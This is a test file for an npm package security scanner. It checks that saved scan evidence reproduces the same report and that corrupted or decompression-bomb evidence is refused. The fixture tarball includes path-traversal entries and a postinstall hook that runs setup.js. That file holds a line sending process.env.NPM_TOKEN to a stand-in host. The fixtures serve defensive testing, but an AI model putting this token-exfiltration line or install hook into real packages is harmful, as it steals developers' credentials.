import { gzipSync, zstdCompressSync } from "node:zlib";
import { describe, expect, test } from "vitest";
import { rejudge, releaseIn } from "../../src/scanner/evidence.ts";
import { defaultLimits } from "../../src/scanner/limits.ts";
import type { PackageView, Rule } from "../../src/scanner/rule.ts";
import { allRules } from "../../src/scanner/rules/all.ts";
import { scanRelease } from "../../src/scanner/scan.ts";
import { manifestEntry, rawEntry, rawTarball } from "../support/raw-tar.ts";
import { sourceOf, subject } from "./scan-bytes.ts";

/** Keeps what rules are shown, so that two readings can be compared. */
function witness(): { readonly rule: Rule; readonly views: PackageView[] } {
  const views: PackageView[] = [];
  const meta = { id: "INS-99", family: "execution", points: 1, solo: false } as const;
  const check = (pkg: PackageView) => {
    views.push(pkg);
    return [];
  };
  return { rule: { meta: { ...meta, title: "", advice: "" }, check }, views };
}

async function seen(bytes: Uint8Array, rules: readonly Rule[] = allRules) {
  const { report, evidence } = await scanRelease(
    sourceOf(bytes),
    subject,
    defaultLimits,
    rules,
    null,
  );
  if (evidence === null) throw new Error("nothing was kept");
  return { report, evidence };
}

/** Some hundred honest files, and among them whatever archives hold besides those. */
function mixed(): Uint8Array {
  const parts: Uint8Array[] = [rawEntry({ name: "package/", type: "5", mode: 0o755 })];
  for (let at = 0; at < 300; at++) {
    const next = `require('./part-${at + 1}.js'); require('left-${at % 7}');`;
    const body = `'use strict';\n${at % 3 === 0 ? next : ""}\nexports.a = ${at};\n`;
    parts.push(rawEntry({ name: `package/lib/part-${at}.js` }, body));
    if (at % 40 === 0) {
      parts.push(
        rawEntry({ name: `package/odd/link-${at}`, type: "2", link: `../lib/part-${at}.js` }),
        rawEntry({ name: `other//./lib/Part-${at}.js`, mode: 0o755 }, "module.exports = 1;"),
        rawEntry({ name: `package/../up-${at}.js` }, "up"),
        rawEntry({ name: `package/ä-${at}.txt` }, "Grüße"),
        rawEntry({ name: `package/odd/${at}.png` }, Buffer.from("\x89PNG\r\n\x1a\nrest", "latin1")),
        rawEntry({ name: `package/node_modules/in-${at}/package.json` }, bundled(at)),
      );
    }
  }
  const theft = "fetch('https://a.test/' + process.env.NPM_TOKEN);";
  parts.push(rawEntry({ name: "package/setup.js" }, theft));
  parts.push(
    manifestEntry({
      name: "demo",
      version: "1.0.0",
      main: "lib/part-0.js",
      bin: { constructor: "lib/part-1.js" },
      scripts: { postinstall: "node setup.js" },
      dependencies: { "left-0": "^1.0.0" },
    }),
  );
  return rawTarball(...parts);
}

function bundled(at: number): string {
  const scripts = { install: "node-gyp rebuild" };
  return JSON.stringify({ name: `in-${at}`, version: "1.0.0", scripts });
}

describe("evidence", () => {
  test("gives the report of the scan, for some hundred files of every kind", async () => {
    const { report, evidence } = await seen(mixed());

    expect(report.verdict).toBe("block");
    expect(report.findings.length).toBeGreaterThan(10);
    expect(rejudge(evidence, subject, allRules, null)).toEqual(report);
  });

  test("compares with what it tells of a release as with the release", async () => {
    const honest = rawTarball(manifestEntry(), rawEntry({ name: "package/index.js" }, "1;"));
    const previous = releaseIn((await seen(honest)).evidence);
    const { report, evidence } = await scanRelease(
      sourceOf(mixed()),
      subject,
      defaultLimits,
      allRules,
      previous,
    );

    expect(report.findings.map(({ ruleId }) => ruleId)).toContain("DIF-01");
    expect(rejudge(evidence ?? Buffer.of(), subject, allRules, previous)).toEqual(report);
    expect(rejudge(evidence ?? Buffer.of(), subject, allRules, null)).not.toEqual(report);
  });

  test("shows rules exactly what the scan showed them", async () => {
    const { rule, views } = witness();
    const { evidence } = await seen(mixed(), [rule]);
    rejudge(evidence, subject, [rule], null);

    const [before, after] = views.map(({ text: _text, ...rest }) => rest);
    expect(before?.entries.length).toBeGreaterThan(300);
    expect(before?.entries.some(({ shape }) => shape?.magic === "png")).toBe(true);
    expect(before?.code.files.some(({ imports }) => imports.length > 0)).toBe(true);
    expect(after).toStrictEqual(before);
  });

  test("finds in a manifest only what it holds, as the scan does", async () => {
    const { rule, views } = witness();
    const { evidence } = await seen(rawTarball(manifestEntry()), [rule]);
    rejudge(evidence, subject, [rule], null);

    expect(views.map(({ manifest }) => manifest?.json["constructor"])).toEqual([
      undefined,
      undefined,
    ]);
  });

  test("is not enough when a rule asks for a text that nobody asked for", async () => {
    const { evidence } = await seen(rawTarball(manifestEntry()), []);
    const { rule } = witness();
    const curious: Rule = { ...rule, check: (pkg) => (pkg.text("package.json") === "" ? [] : []) };

    expect(rejudge(evidence, subject, [curious], null)).toBeNull();
    expect(rejudge(evidence, subject, [rule], null)).not.toBeNull();
  });

  describe("is refused", () => {
    const lies = (evidence: Uint8Array, length: number) => {
      const copy = Buffer.from(evidence);
      copy.writeUInt32LE(length, 1);
      return copy;
    };
    const zeros = zstdCompressSync(Buffer.alloc(200 * 1024 * 1024));
    const cases: readonly [what: string, change: (evidence: Uint8Array) => Uint8Array][] = [
      ["when it is empty", () => Buffer.of()],
      ["when it is something else", () => Buffer.from("nothing at all")],
      ["in the form before this one", () => gzipSync(JSON.stringify({ extractor: "2026.11.6" }))],
      ["when its end is missing", (evidence) => evidence.subarray(0, -20)],
      [
        "when it is of another form",
        (evidence) => Buffer.concat([Buffer.of(1), evidence.slice(1)]),
      ],
      ["when it is longer than it says", (evidence) => lies(evidence, 100)],
      ["when it is shorter than it says", (evidence) => lies(evidence, 1024 * 1024)],
      ["when it says that it is huge", (evidence) => lies(evidence, 0xffffffff)],
      ["when it grows without end", (evidence) => Buffer.concat([evidence.slice(0, 5), zeros])],
    ];

    test.each(cases)("%s", async (_, change) => {
      const { evidence } = await seen(rawTarball(manifestEntry()));
      const changed = change(evidence);

      expect(rejudge(evidence, subject, allRules, null)).not.toBeNull();
      expect(rejudge(changed, subject, allRules, null)).toBeNull();
      expect(releaseIn(changed)).toBeNull();
    });
  });
});
